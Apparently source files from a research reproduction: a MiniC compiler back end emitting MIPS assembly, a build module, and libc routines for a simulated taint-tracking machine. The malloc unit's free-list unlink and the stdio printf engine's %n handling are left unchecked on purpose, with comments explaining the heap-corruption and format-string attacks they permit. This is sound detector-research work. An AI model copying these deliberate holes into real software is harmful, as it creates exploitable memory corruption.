            self._emit(f"b {self._loop_stack[-1][0]}")
        elif isinstance(stmt, Continue):
            if not self._loop_stack:
                raise CompileError("continue outside loop", stmt.line)
            self._emit(f"b {self._loop_stack[-1][1]}")
        else:  # pragma: no cover
            raise CompileError(f"unhandled statement {type(stmt).__name__}")

    def _gen_local_decl(self, stmt: LocalDecl) -> None:
        slot = self._layout.slots_by_node.get(id(stmt))
        if slot is None:  # declaration inside a for-init of a nested scan
            raise CompileError(
                f"internal: no slot for local {stmt.name!r}", stmt.line
            )
        self._scopes[-1][stmt.name] = slot
        if stmt.init is None:
            return
        if isinstance(slot.ctype, ArrayType):
            raise CompileError(
                "array local initializers are not supported", stmt.line
            )
        self._gen_expr(stmt.init)
        self._store_to_slot(slot)

    def _store_to_slot(self, slot: _Slot) -> None:
        """Store the accumulator into a scalar variable slot."""
        if slot.kind == "sreg":
            if slot.ctype.size == 1:
                # char variables truncate on assignment even in registers.
                self._emit(f"andi {slot.reg},{_ACC},0xff")
            else:
                self._emit(f"move {slot.reg},{_ACC}")
        elif slot.kind in ("frame", "param"):
            op = "sb" if slot.ctype.size == 1 else "sw"
            self._emit(f"{op} {_ACC},{slot.offset}($fp)")
        else:  # global
            self._emit(f"la {_SEC},{slot.label}")
            op = "sb" if slot.ctype.size == 1 else "sw"
            self._emit(f"{op} {_ACC},0({_SEC})")

    def _gen_if(self, stmt: If) -> None:
        else_label = self._new_label("else")
        end_label = self._new_label("endif")
        target = else_label if stmt.else_branch is not None else end_label
        self._gen_cond_branch(stmt.condition, target, jump_if_true=False)
        if stmt.then_branch is not None:
            self._gen_stmt(stmt.then_branch)
        if stmt.else_branch is not None:
            self._emit(f"b {end_label}")
            self._emit_label(else_label)
            self._gen_stmt(stmt.else_branch)
        self._emit_label(end_label)

    def _gen_while(self, stmt: While) -> None:
        head = self._new_label("while")
        end = self._new_label("endwhile")
        self._emit_label(head)
        self._gen_cond_branch(stmt.condition, end, jump_if_true=False)
        self._loop_stack.append((end, head))
        if stmt.body is not None:
            self._gen_stmt(stmt.body)
        self._loop_stack.pop()
        self._emit(f"b {head}")
        self._emit_label(end)

    def _gen_for(self, stmt: For) -> None:
        head = self._new_label("for")
        step_label = self._new_label("forstep")
        end = self._new_label("endfor")
        self._scopes.append({})
        if stmt.init is not None:
            self._gen_stmt(stmt.init)
        self._emit_label(head)
        if stmt.condition is not None:
            self._gen_cond_branch(stmt.condition, end, jump_if_true=False)
        self._loop_stack.append((end, step_label))
        if stmt.body is not None:
            self._gen_stmt(stmt.body)
        self._loop_stack.pop()
        self._emit_label(step_label)
        if stmt.step is not None:
            self._gen_expr(stmt.step)
        self._emit(f"b {head}")
        self._emit_label(end)
        self._scopes.pop()

    # ------------------------------------------------------------------
    # conditions: branch form, comparing home registers directly
    # ------------------------------------------------------------------

    def _home_register(self, expr: Expr) -> Optional[str]:
        """Home register of a promoted variable, else None."""
        if isinstance(expr, VarRef):
            for scope in reversed(self._scopes):
                if expr.name in scope:
                    slot = scope[expr.name]
                    return slot.reg if slot.kind == "sreg" else None
        if isinstance(expr, IntLiteral) and expr.value == 0:
            return "$0"
        return None

    def _gen_operand_pair(
        self, left: Expr, right: Expr
    ) -> Tuple[str, str, CType, CType]:
        """Evaluate a binary pair, preferring home registers.

        Returns ``(left_reg, right_reg, left_type, right_type)``.  Using the
        home register directly matters for taint fidelity: the compare
        instruction then untaints the *variable*, not a temporary copy.
        """
        left_home = self._home_register(left)
        right_home = self._home_register(right)
        if left_home is not None and right_home is not None:
            lt = self._expr_type(left)
            rt = self._expr_type(right)
            return left_home, right_home, lt, rt
        if left_home is not None:
            rt = self._gen_expr(right)
            return left_home, _ACC, self._expr_type(left), rt
        if right_home is not None:
            lt = self._gen_expr(left)
            return _ACC, right_home, lt, self._expr_type(right)
        lt = self._gen_expr(left)
        self._push()
        rt = self._gen_expr(right)
        self._pop(_SEC)
        return _SEC, _ACC, lt, rt

    def _gen_cond_branch(
        self, expr: Optional[Expr], target: str, jump_if_true: bool
    ) -> None:
        """Branch to ``target`` when the condition matches ``jump_if_true``."""
        if expr is None:
            return
        if isinstance(expr, Unary) and expr.op == "!" and not expr.postfix:
            assert expr.operand is not None
            self._gen_cond_branch(expr.operand, target, not jump_if_true)
            return
        if isinstance(expr, Binary) and expr.op == "&&":
            assert expr.left is not None and expr.right is not None
            if jump_if_true:
                skip = self._new_label("and")
                self._gen_cond_branch(expr.left, skip, jump_if_true=False)
                self._gen_cond_branch(expr.right, target, jump_if_true=True)
                self._emit_label(skip)
            else:
                self._gen_cond_branch(expr.left, target, jump_if_true=False)
                self._gen_cond_branch(expr.right, target, jump_if_true=False)
            return
        if isinstance(expr, Binary) and expr.op == "||":
            assert expr.left is not None and expr.right is not None
            if jump_if_true:
                self._gen_cond_branch(expr.left, target, jump_if_true=True)
                self._gen_cond_branch(expr.right, target, jump_if_true=True)
            else:
                skip = self._new_label("or")
                self._gen_cond_branch(expr.left, skip, jump_if_true=True)
                self._gen_cond_branch(expr.right, target, jump_if_true=False)
                self._emit_label(skip)
            return
        if isinstance(expr, Binary) and expr.op in _COMPARISON_OPS:
            assert expr.left is not None and expr.right is not None
            left, right, lt, rt = self._gen_operand_pair(expr.left, expr.right)
            op = expr.op
            if op in ("==", "!="):
                want_eq = (op == "==") == jump_if_true
                branch = "beq" if want_eq else "bne"
                self._emit(f"{branch} {left},{right},{target}")
                return
            unsigned = lt.decayed().is_pointer() or rt.decayed().is_pointer()
            slt = "sltu" if unsigned else "slt"
            # Reduce to "x < y" / "not (x < y)" in terms of slt.
            if op == "<":
                self._emit(f"{slt} {_ACC},{left},{right}")
                true_when_set = True
            elif op == ">":
                self._emit(f"{slt} {_ACC},{right},{left}")
                true_when_set = True
            elif op == "<=":
                self._emit(f"{slt} {_ACC},{right},{left}")
                true_when_set = False
            else:  # ">="
                self._emit(f"{slt} {_ACC},{left},{right}")
                true_when_set = False
            branch = "bnez" if true_when_set == jump_if_true else "beqz"
            self._emit(f"{branch} {_ACC},{target}")
            return
        # Fallback: evaluate as a value, compare against zero -- using the
        # home register directly for promoted variables.
        home = self._home_register(expr)
        reg = home if home is not None else (self._gen_expr(expr), _ACC)[1]
        branch = "bnez" if jump_if_true else "beqz"
        self._emit(f"{branch} {reg},{target}")

    # ------------------------------------------------------------------
    # expression type computation (best-effort, C-permissive)
    # ------------------------------------------------------------------

    def _expr_type(self, expr: Expr) -> CType:
        if isinstance(expr, IntLiteral):
            return INT
        if isinstance(expr, SizeOf):
            return INT
        if isinstance(expr, StringLiteral):
            return PointerType(CHAR)
        if isinstance(expr, VarRef):
            try:
                return self._lookup(expr.name, expr.line).ctype.decayed()
            except CompileError:
                return INT
        if isinstance(expr, Unary):
            assert expr.operand is not None
            if expr.op == "*":
                base = self._expr_type(expr.operand)
                if isinstance(base, PointerType):
                    return base.base if base.base.size else INT
                return INT
            if expr.op == "&":
                return PointerType(self._expr_type(expr.operand))
            if expr.op in ("++", "--"):
                return self._expr_type(expr.operand)
            return INT
        if isinstance(expr, Binary):
            if expr.op in ("+", "-"):
                assert expr.left is not None and expr.right is not None
                lt = self._expr_type(expr.left)
                rt = self._expr_type(expr.right)
                if lt.is_pointer() and rt.is_pointer():
                    return INT
                if lt.is_pointer():
                    return lt
                if rt.is_pointer():
                    return rt
                return INT
            if expr.op == ",":
                assert expr.right is not None
                return self._expr_type(expr.right)
            return INT
        if isinstance(expr, Assign):
            assert expr.target is not None
            return self._expr_type(expr.target)
        if isinstance(expr, Conditional):
            assert expr.then_value is not None
            return self._expr_type(expr.then_value)
        if isinstance(expr, Call):
            func = self._functions.get(expr.name)
            return func.return_type if func is not None else INT
        if isinstance(expr, Index):
            assert expr.base is not None
            base = self._expr_type(expr.base)
            if isinstance(base, PointerType):
                return base.base
            return INT
        return INT

    # ------------------------------------------------------------------
    # lvalues
    # ------------------------------------------------------------------

    def _gen_addr(self, expr: Expr) -> CType:
        """Leave the address of an lvalue in the accumulator.

        Returns the element type stored at that address.
        """
        if isinstance(expr, VarRef):
            slot = self._lookup(expr.name, expr.line)
            if slot.kind == "sreg":
                raise CompileError(
                    f"cannot take the address of register variable "
                    f"{expr.name!r}",
                    expr.line,
                )
            if slot.kind == "global":
                self._emit(f"la {_ACC},{slot.label}")
            else:
                self._emit(f"addiu {_ACC},$fp,{slot.offset}")
            return slot.ctype
        if isinstance(expr, Unary) and expr.op == "*":
            assert expr.operand is not None
            ptype = self._gen_expr(expr.operand)
            if isinstance(ptype, PointerType) and ptype.base.size:
                return ptype.base
            return INT
        if isinstance(expr, Index):
            assert expr.base is not None and expr.index is not None
            base_type = self._gen_expr(expr.base)
            if not isinstance(base_type, PointerType):
                base_type = PointerType(INT)
            elem = base_type.base if base_type.base.size else INT
            self._push()
            self._gen_expr(expr.index)
            if elem.size == 4:
                self._emit(f"sll {_ACC},{_ACC},2")
            elif elem.size == 2:
                self._emit(f"sll {_ACC},{_ACC},1")
            self._pop(_SEC)
            self._emit(f"addu {_ACC},{_SEC},{_ACC}")
            return elem
        raise CompileError(
            f"expression is not an lvalue ({type(expr).__name__})", expr.line
        )

    def _load_from_addr(self, elem: CType, addr_reg: str = _ACC) -> CType:
        """Load the value at ``addr_reg`` into the accumulator."""
        if isinstance(elem, ArrayType):
            # Arrays decay: the address itself is the value.
            if addr_reg != _ACC:
                self._emit(f"move {_ACC},{addr_reg}")
            return PointerType(elem.base)
        op = "lbu" if elem.size == 1 else "lw"
        self._emit(f"{op} {_ACC},0({addr_reg})")
        return elem if elem.size == 4 else INT

    # ------------------------------------------------------------------
    # expressions
    # ------------------------------------------------------------------

    def _gen_expr(self, expr: Expr) -> CType:
        """Evaluate ``expr`` into the accumulator; returns its type."""
        if isinstance(expr, IntLiteral):
            self._emit(f"li {_ACC},{expr.value}")
            return INT
        if isinstance(expr, SizeOf):
            assert expr.ctype is not None
            self._emit(f"li {_ACC},{expr.ctype.size}")
            return INT
        if isinstance(expr, StringLiteral):
            label = self._string_label(expr.value)
            self._emit(f"la {_ACC},{label}")
            return PointerType(CHAR)
        if isinstance(expr, VarRef):
            slot = self._lookup(expr.name, expr.line)
            if slot.kind == "sreg":
                self._emit(f"move {_ACC},{slot.reg}")
                return slot.ctype.decayed()
            elem = self._gen_addr(expr)
            result = self._load_from_addr(elem)
            return result if not isinstance(elem, ArrayType) else result
        if isinstance(expr, Unary):
            return self._gen_unary(expr)
        if isinstance(expr, Binary):
            return self._gen_binary(expr)
        if isinstance(expr, Assign):
            return self._gen_assign(expr)
        if isinstance(expr, Conditional):
            return self._gen_conditional(expr)
        if isinstance(expr, Call):
            return self._gen_call(expr)
        if isinstance(expr, Index):
            elem = self._gen_addr(expr)
            return self._load_from_addr(elem)
        raise CompileError(
            f"unhandled expression {type(expr).__name__}", expr.line
        )

    def _gen_unary(self, expr: Unary) -> CType:
        assert expr.operand is not None
        op = expr.op
        if op in ("++", "--"):
            return self._gen_incdec(expr)
        if op == "&":
            elem = self._gen_addr(expr.operand)
            return PointerType(elem)
        if op == "*":
            elem = self._gen_addr(expr)
            return self._load_from_addr(elem)
        ctype = self._gen_expr(expr.operand)
        if op == "-":
            self._emit(f"sub {_ACC},$0,{_ACC}")
            return INT
        if op == "~":
            self._emit(f"nor {_ACC},{_ACC},$0")
            return INT
        if op == "!":
            self._emit(f"sltiu {_ACC},{_ACC},1")
            return INT
        raise CompileError(f"unhandled unary {op!r}", expr.line)

    def _pointer_scale(self, ctype: CType) -> int:
        decayed = ctype.decayed()
        if isinstance(decayed, PointerType) and decayed.base.size > 1:
            return decayed.base.size
        return 1

    def _gen_incdec(self, expr: Unary) -> CType:
        assert expr.operand is not None
        target = expr.operand
        ctype = self._expr_type(target)
        step = self._pointer_scale(ctype)
        delta = step if expr.op == "++" else -step
        home = self._home_register(target)
        if home is not None and home != "$0":
            if expr.postfix:
                self._emit(f"move {_ACC},{home}")
                self._emit(f"addiu {home},{home},{delta}")
            else:
                self._emit(f"addiu {home},{home},{delta}")
                self._emit(f"move {_ACC},{home}")
            return ctype
        elem = self._gen_addr(target)
        load = "lbu" if elem.size == 1 else "lw"
        store = "sb" if elem.size == 1 else "sw"
        self._emit(f"move {_SEC},{_ACC}")
        self._emit(f"{load} {_ACC},0({_SEC})")
        self._emit(f"addiu {_SCR},{_ACC},{delta}")
        self._emit(f"{store} {_SCR},0({_SEC})")
        if not expr.postfix:
            self._emit(f"move {_ACC},{_SCR}")
        return ctype

    def _gen_binary(self, expr: Binary) -> CType:
        assert expr.left is not None and expr.right is not None
        op = expr.op
        if op == ",":
            self._gen_expr(expr.left)
            return self._gen_expr(expr.right)
        if op in ("&&", "||"):
            true_label = self._new_label("btrue")
            end_label = self._new_label("bend")
            self._gen_cond_branch(expr, true_label, jump_if_true=True)
            self._emit(f"li {_ACC},0")
            self._emit(f"b {end_label}")
            self._emit_label(true_label)
            self._emit(f"li {_ACC},1")
            self._emit_label(end_label)
            return INT
        if op in _COMPARISON_OPS:
            left, right, lt, rt = self._gen_operand_pair(expr.left, expr.right)
            unsigned = lt.decayed().is_pointer() or rt.decayed().is_pointer()
            slt = "sltu" if unsigned else "slt"
            if op == "<":
                self._emit(f"{slt} {_ACC},{left},{right}")
            elif op == ">":
                self._emit(f"{slt} {_ACC},{right},{left}")
            elif op == "<=":
                self._emit(f"{slt} {_ACC},{right},{left}")
                self._emit(f"xori {_ACC},{_ACC},1")
            elif op == ">=":
                self._emit(f"{slt} {_ACC},{left},{right}")
                self._emit(f"xori {_ACC},{_ACC},1")
            elif op == "==":
                self._emit(f"xor {_ACC},{left},{right}")
                self._emit(f"sltiu {_ACC},{_ACC},1")
            else:  # "!="
                self._emit(f"xor {_ACC},{left},{right}")
                self._emit(f"sltu {_ACC},$0,{_ACC}")
            return INT

        left, right, lt, rt = self._gen_operand_pair(expr.left, expr.right)
        if op == "+":
            lscale = self._pointer_scale(lt)
            rscale = self._pointer_scale(rt)
            if lscale > 1 and rscale == 1:
                self._scale_into(right, lscale)
                right = _SCR
            elif rscale > 1 and lscale == 1:
                self._scale_into(left, rscale)
                left = _SCR
            self._emit(f"addu {_ACC},{left},{right}")
            return lt if lscale > 1 else (rt if rscale > 1 else INT)
        if op == "-":
            lscale = self._pointer_scale(lt)
            rscale = self._pointer_scale(rt)
            if lscale > 1 and rscale > 1:
                self._emit(f"subu {_ACC},{left},{right}")
                shift = {4: 2, 2: 1}.get(lscale)
                if shift:
                    self._emit(f"sra {_ACC},{_ACC},{shift}")
                return INT
            if lscale > 1:
                self._scale_into(right, lscale)
                right = _SCR
            self._emit(f"subu {_ACC},{left},{right}")
            return lt if lscale > 1 else INT
        if op == "*":
            self._emit(f"mult {left},{right}")
            self._emit(f"mflo {_ACC}")
            return INT
        if op in ("/", "%"):
            self._emit(f"div {left},{right}")
            self._emit(f"mflo {_ACC}" if op == "/" else f"mfhi {_ACC}")
            return INT
        if op == "&":
            self._emit(f"and {_ACC},{left},{right}")
            return INT
        if op == "|":
            self._emit(f"or {_ACC},{left},{right}")
            return INT
        if op == "^":
            self._emit(f"xor {_ACC},{left},{right}")
            return INT
        if op == "<<":
            self._emit(f"sllv {_ACC},{left},{right}")
            return INT
        if op == ">>":
            self._emit(f"srav {_ACC},{left},{right}")
            return INT
        raise CompileError(f"unhandled binary {op!r}", expr.line)

    def _scale_into(self, reg: str, scale: int) -> None:
        """Scale ``reg`` by an element size into the scratch register."""
        shift = {4: 2, 2: 1}.get(scale)
        if shift is None:
            raise CompileError(f"unsupported pointer element size {scale}")
        self._emit(f"sll {_SCR},{reg},{shift}")

    _COMPOUND_BASE = {
        "+=": "+", "-=": "-", "*=": "*", "/=": "/", "%=": "%",
        "&=": "&", "|=": "|", "^=": "^", "<<=": "<<", ">>=": ">>",
    }

    def _gen_assign(self, expr: Assign) -> CType:
        assert expr.target is not None and expr.value is not None
        target = expr.target
        # Register-resident scalar.
        if isinstance(target, VarRef):
            slot = self._lookup(target.name, target.line)
            if slot.kind == "sreg":
                self._gen_expr(expr.value)
                if expr.op != "=":
                    self._apply_compound(
                        self._COMPOUND_BASE[expr.op], slot.reg, slot.ctype
                    )
                self._store_to_slot(slot)
                self._emit(f"move {_ACC},{slot.reg}")
                return slot.ctype.decayed()
        # Memory-resident lvalue.
        elem = self._gen_addr(target)
        self._push()  # address
        self._gen_expr(expr.value)
        self._pop(_SEC)  # address in _SEC, value in _ACC
        store = "sb" if elem.size == 1 else "sw"
        if expr.op != "=":
            load = "lbu" if elem.size == 1 else "lw"
            self._emit(f"{load} {_SCR},0({_SEC})")
            self._apply_compound(self._COMPOUND_BASE[expr.op], _SCR, elem)
        self._emit(f"{store} {_ACC},0({_SEC})")
        return elem.decayed() if not isinstance(elem, ArrayType) else INT

    def _apply_compound(self, op: str, current_reg: str, ctype: CType) -> None:
        """Accumulator := current_reg (op) accumulator, with pointer scaling."""
        scale = self._pointer_scale(ctype)
        if op in ("+", "-") and scale > 1:
            self._scale_into(_ACC, scale)
            self._emit(f"move {_ACC},{_SCR}")
        if op == "+":
            self._emit(f"addu {_ACC},{current_reg},{_ACC}")
        elif op == "-":
            self._emit(f"subu {_ACC},{current_reg},{_ACC}")
        elif op == "*":
            self._emit(f"mult {current_reg},{_ACC}")
            self._emit(f"mflo {_ACC}")
        elif op == "/":
            self._emit(f"div {current_reg},{_ACC}")
            self._emit(f"mflo {_ACC}")
        elif op == "%":
            self._emit(f"div {current_reg},{_ACC}")
            self._emit(f"mfhi {_ACC}")
        elif op == "&":
            self._emit(f"and {_ACC},{current_reg},{_ACC}")
        elif op == "|":
            self._emit(f"or {_ACC},{current_reg},{_ACC}")
        elif op == "^":
            self._emit(f"xor {_ACC},{current_reg},{_ACC}")
        elif op == "<<":
            self._emit(f"sllv {_ACC},{current_reg},{_ACC}")
        elif op == ">>":
            self._emit(f"srav {_ACC},{current_reg},{_ACC}")
        else:  # pragma: no cover
            raise CompileError(f"unhandled compound op {op!r}")

    def _gen_conditional(self, expr: Conditional) -> CType:
        assert expr.condition is not None
        assert expr.then_value is not None and expr.else_value is not None
        else_label = self._new_label("celse")
        end_label = self._new_label("cend")
        self._gen_cond_branch(expr.condition, else_label, jump_if_true=False)
        ctype = self._gen_expr(expr.then_value)
        self._emit(f"b {end_label}")
        self._emit_label(else_label)
        self._gen_expr(expr.else_value)
        self._emit_label(end_label)
        return ctype

    def _gen_call(self, expr: Call) -> CType:
        for arg in reversed(expr.args):
            self._gen_expr(arg)
            self._push()
        self._emit(f"jal {expr.name}")
        if expr.args:
            self._emit(f"addiu $sp,$sp,{4 * len(expr.args)}")
        self._emit(f"move {_ACC},$v0")
        func = self._functions.get(expr.name)
        return func.return_type if func is not None else INT


def generate(unit: TranslationUnit, prefix: str = "") -> str:
    """Generate assembly for a parsed translation unit."""
    return CodeGenerator(unit, prefix).generate()
