"""Heap allocator, written in MiniC: boundary tags + doubly-linked free bin.

The design follows dlmalloc's architecture, which is what the paper's heap
attacks target:

* chunk = ``[size|flags][payload...]`` with the user pointer 4 bytes past
  the chunk base; sizes are 8-byte aligned, minimum 16 bytes;
* flag bit 0 = *this chunk is free*, bit 1 = *previous chunk is free*;
* free chunks carry ``fd``/``bk`` links in their first two payload words and
  a size footer in their last word (for backward coalescing);
* one circular doubly-linked bin holds all free chunks;
* ``free()`` coalesces with a free successor by **unlinking** it:
  ``B->fd->bk = B->bk; B->bk->fd = B->fd`` -- the two writes the classic
  heap-corruption attack turns into an arbitrary word write.  When an
  overflow has tainted ``B->fd``, the first of those stores dereferences a
  tainted pointer and the paper's detector fires inside ``free()``.

No integrity checks are performed on the links (2005-era allocator) -- that
is the vulnerability under study.
"""

MALLOC_SOURCE = r"""
int heap_bin[2];
int heap_ready = 0;
int *heap_top;
int heap_top_size = 0;

void heap_init(void) {
    heap_bin[0] = heap_bin;
    heap_bin[1] = heap_bin;
    heap_top = sbrk(4096);
    heap_top_size = 4096;
    heap_ready = 1;
}

void set_footer(int *c, int size) {
    c[(size >> 2) - 1] = size;
}

/* Free-list nodes live in the first two payload words of a free chunk:
   node[0] = fd, node[1] = bk (both point at other *nodes*). */
void bin_insert(int *c) {
    int *node;
    int *first;
    node = c + 1;
    first = heap_bin[0];
    node[0] = first;
    node[1] = heap_bin;
    first[1] = node;
    heap_bin[0] = node;
}

/* unlink(B): B->bk->fd = B->fd; B->fd->bk = B->bk.  No integrity checks
   (2005-era allocator): with attacker-controlled links this is the
   arbitrary-write primitive of the classic heap corruption attack. */
void bin_unlink(int *node) {
    int *fd;
    int *bk;
    fd = node[0];
    bk = node[1];
    bk[0] = fd;
    fd[1] = bk;
}

int *malloc(int n) {
    int req;
    int size;
    int *c;
    int *rem;
    int *next;
    int *node;
    int grow;
    if (heap_ready == 0) {
        heap_init();
    }
    if (n < 1) {
        n = 1;
    }
    req = (n + 11) & 0xfffffff8;
    if (req < 16) {
        req = 16;
    }
    /* First fit over the free bin. */
    node = heap_bin[0];
    while (node != heap_bin) {
        c = node - 1;
        size = c[0] & 0xfffffff8;
        if (size >= req) {
            bin_unlink(node);
            if (size - req >= 16) {
                /* Split: the remainder stays free, right after c. */
                rem = c + (req >> 2);
                rem[0] = (size - req) | 1;
                set_footer(rem, size - req);
                bin_insert(rem);
                c[0] = req | (c[0] & 2);
            } else {
                req = size;
                c[0] = req | (c[0] & 2);
                next = c + (req >> 2);
                if (next != heap_top) {
                    next[0] = next[0] & 0xfffffffd;
                }
            }
            return c + 1;
        }
        node = node[0];
    }
    /* Carve from the top (wilderness) chunk. */
    if (heap_top_size < req + 16) {
        grow = req + 4096;
        sbrk(grow);
        heap_top_size = heap_top_size + grow;
    }
    c = heap_top;
    heap_top = heap_top + (req >> 2);
    heap_top_size = heap_top_size - req;
    c[0] = req;
    return c + 1;
}

void free(int *p) {
    int *c;
    int size;
    int nsize;
    int psize;
    int *next;
    int *prev;
    if (p == 0) {
        return;
    }
    c = p - 1;
    size = c[0] & 0xfffffff8;
    /* Backward coalesce: previous chunk free -> unlink it and merge. */
    if (c[0] & 2) {
        psize = *(c - 1);
        prev = c - (psize >> 2);
        bin_unlink(prev + 1);
        size = size + psize;
        c = prev;
    }
    next = c + (size >> 2);
    /* Forward coalesce: successor chunk free -> unlink(B) and merge.
       The unlink stores are the attack surface: with attacker-controlled
       fd/bk this writes an arbitrary word to an arbitrary address. */
    if (next != heap_top) {
        if (next[0] & 1) {
            nsize = next[0] & 0xfffffff8;
            bin_unlink(next + 1);
            size = size + nsize;
            next = c + (size >> 2);
        }
    }
    if (next == heap_top) {
        /* Merge into the wilderness. */
        heap_top = c;
        heap_top_size = heap_top_size + size;
        return;
    }
    c[0] = size | 1;
    set_footer(c, size);
    next[0] = next[0] | 2;
    bin_insert(c);
}

int *calloc(int count, int size) {
    int *p;
    int total;
    total = count * size;
    p = malloc(total);
    if (p) {
        memset(p, 0, total);
    }
    return p;
}
"""
