"""Program builder: MiniC application + libc + crt0 -> executable image.

The toolchain concatenates all assembly (crt0, compiled libc units, compiled
application units, syscall veneers) into one translation unit and assembles
it, so no separate linker is required.  Compiled images are memoized by
source text -- benchmarks rebuild the same programs repeatedly.
"""

from __future__ import annotations

from functools import lru_cache
from typing import Tuple

from ..cc.compiler import compile_units
from ..isa.assembler import assemble
from ..isa.program import Executable
from .malloc_src import MALLOC_SOURCE
from .runtime import CRT0, SYSCALL_VENEERS
from .socket_src import SOCKET_SOURCE
from .stdio_src import STDIO_SOURCE
from .string_src import STRING_SOURCE

#: The standard library units, compiled in this order.
LIBC_UNITS: Tuple[Tuple[str, str], ...] = (
    ("string", STRING_SOURCE),
    ("stdio", STDIO_SOURCE),
    ("malloc", MALLOC_SOURCE),
    ("socket", SOCKET_SOURCE),
)


@lru_cache(maxsize=None)
def _libc_assembly(opt_level: int = 0) -> str:
    """Assembly text of the whole standard library (compiled once per level)."""
    return compile_units(LIBC_UNITS, opt_level=opt_level)


@lru_cache(maxsize=64)
def _build_cached(
    app_source: str, with_libc: bool, extra_asm: str, opt_level: int
) -> Executable:
    parts = [CRT0]
    if with_libc:
        parts.append(_libc_assembly(opt_level))
    parts.append(compile_units((("app", app_source),), opt_level=opt_level))
    if extra_asm:
        parts.append(extra_asm)
    parts.append(SYSCALL_VENEERS)
    return assemble("\n".join(parts))


def build_program(
    app_source: str,
    with_libc: bool = True,
    extra_asm: str = "",
    opt_level: int = 0,
) -> Executable:
    """Compile and link a MiniC program against the runtime and libc.

    ``opt_level`` selects the MiniC backend (0 = legacy oracle, 1 = IR
    pipeline) for both the application and the libc units.

    The returned :class:`Executable` is cached and therefore shared; callers
    must not mutate it (the simulator never does -- it copies the image into
    its own memory).
    """
    return _build_cached(app_source, with_libc, extra_asm, opt_level)


def build_assembly(asm_source: str, with_crt0: bool = False) -> Executable:
    """Assemble a raw assembly program (used by ISA-level tests)."""
    parts = []
    if with_crt0:
        parts.append(CRT0)
    parts.append(asm_source)
    return assemble("\n".join(parts))
