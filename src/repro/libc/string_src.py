"""String and memory routines, written in MiniC.

These run *on the simulated machine*, so taint flows through their loads
and stores byte by byte -- ``strcpy`` of attacker input produces a tainted
destination buffer exactly as on the paper's hardware.
"""

STRING_SOURCE = r"""
int strlen(char *s) {
    int n;
    n = 0;
    while (s[n]) {
        n++;
    }
    return n;
}

char *strcpy(char *dst, char *src) {
    int i;
    i = 0;
    while (src[i]) {
        dst[i] = src[i];
        i++;
    }
    dst[i] = 0;
    return dst;
}

char *strncpy(char *dst, char *src, int n) {
    int i;
    i = 0;
    while (i < n && src[i]) {
        dst[i] = src[i];
        i++;
    }
    while (i < n) {
        dst[i] = 0;
        i++;
    }
    return dst;
}

char *strcat(char *dst, char *src) {
    strcpy(dst + strlen(dst), src);
    return dst;
}

int strcmp(char *a, char *b) {
    int i;
    i = 0;
    while (a[i] && b[i] && a[i] == b[i]) {
        i++;
    }
    return a[i] - b[i];
}

int strncmp(char *a, char *b, int n) {
    int i;
    i = 0;
    if (n < 1) {
        return 0;
    }
    while (i < n - 1 && a[i] && b[i] && a[i] == b[i]) {
        i++;
    }
    return a[i] - b[i];
}

char *strchr(char *s, int ch) {
    while (*s) {
        if (*s == ch) {
            return s;
        }
        s++;
    }
    if (ch == 0) {
        return s;
    }
    return 0;
}

char *strstr(char *haystack, char *needle) {
    int n;
    n = strlen(needle);
    if (n == 0) {
        return haystack;
    }
    while (*haystack) {
        if (strncmp(haystack, needle, n) == 0) {
            return haystack;
        }
        haystack++;
    }
    return 0;
}

char *memcpy(char *dst, char *src, int n) {
    int i;
    for (i = 0; i < n; i++) {
        dst[i] = src[i];
    }
    return dst;
}

char *memset(char *dst, int value, int n) {
    int i;
    for (i = 0; i < n; i++) {
        dst[i] = value;
    }
    return dst;
}

int memcmp(char *a, char *b, int n) {
    int i;
    for (i = 0; i < n; i++) {
        if (a[i] != b[i]) {
            return a[i] - b[i];
        }
    }
    return 0;
}

int isspace(int ch) {
    if (ch == 32 || ch == 9 || ch == 10 || ch == 13) {
        return 1;
    }
    return 0;
}

int isdigit(int ch) {
    if (ch >= '0' && ch <= '9') {
        return 1;
    }
    return 0;
}

int atoi(char *s) {
    int value;
    int negative;
    value = 0;
    negative = 0;
    while (isspace(*s)) {
        s++;
    }
    if (*s == '-') {
        negative = 1;
        s++;
    } else if (*s == '+') {
        s++;
    }
    while (isdigit(*s)) {
        value = value * 10 + (*s - '0');
        s++;
    }
    if (negative) {
        return -value;
    }
    return value;
}
"""
