"""Socket convenience helpers, written in MiniC.

The raw ``socket``/``bind``/``listen``/``accept``/``recv``/``send`` entry
points are assembly veneers (:mod:`repro.libc.runtime`); these helpers add
the small conveniences the server applications share.
"""

SOCKET_SOURCE = r"""
/* Send a NUL-terminated string over a socket. */
int send_str(int fd, char *s) {
    return send(fd, s, strlen(s));
}

/* Create a listening server socket on a port; returns the socket fd. */
int server_listen(int port) {
    int fd;
    fd = socket(2, 1, 0);
    if (fd < 0) {
        return -1;
    }
    if (bind(fd, port) < 0) {
        return -1;
    }
    if (listen(fd, 8) < 0) {
        return -1;
    }
    return fd;
}
"""
