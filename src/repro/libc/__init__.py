"""The simulated machine's C runtime: crt0, libc sources, program builder."""

from .build import LIBC_UNITS, build_assembly, build_program
from .malloc_src import MALLOC_SOURCE
from .runtime import CRT0, SYSCALL_VENEERS
from .socket_src import SOCKET_SOURCE
from .stdio_src import STDIO_SOURCE
from .string_src import STRING_SOURCE

__all__ = [
    "LIBC_UNITS",
    "build_assembly",
    "build_program",
    "MALLOC_SOURCE",
    "CRT0",
    "SYSCALL_VENEERS",
    "SOCKET_SOURCE",
    "STDIO_SOURCE",
    "STRING_SOURCE",
]
