"""stdio, written in MiniC: the printf family with ``%n``, gets/scanf.

``vformat`` is the shared engine behind ``printf``/``sprintf``/``fdprintf``.
Its two cursors are exactly the paper's Figure 2 description of vfprintf:
``fmt`` sweeps the format string and ``ap`` scans the argument area.  When
``fmt`` reaches ``%n``, the engine executes ``*ap = count`` -- the store
through a user-influenced pointer that the format-string attack hijacks.

No bounds or NULL checks are performed on the ``%n``/``%s`` pointers: that
is precisely the vulnerability class being studied.
"""

STDIO_SOURCE = r"""
int fdputs(int fd, char *s) {
    return write(fd, s, strlen(s));
}

int putchar(int ch) {
    char one[4];
    one[0] = ch;
    return write(1, one, 1);
}

int puts(char *s) {
    write(1, s, strlen(s));
    return putchar(10);
}

/* floor(value / 10) treating value as a 32-bit unsigned quantity. */
int udiv10(int value) {
    if (value >= 0) {
        return value / 10;
    }
    return ((value >> 1) & 0x7fffffff) / 5;
}

/* Render an unsigned value; returns the number of characters emitted. */
int format_uint(char *dst, int value, int base) {
    char digits[12];
    int n;
    int i;
    int d;
    int q;
    if (value == 0) {
        dst[0] = '0';
        return 1;
    }
    n = 0;
    if (base == 16) {
        while (value != 0) {
            d = value & 15;
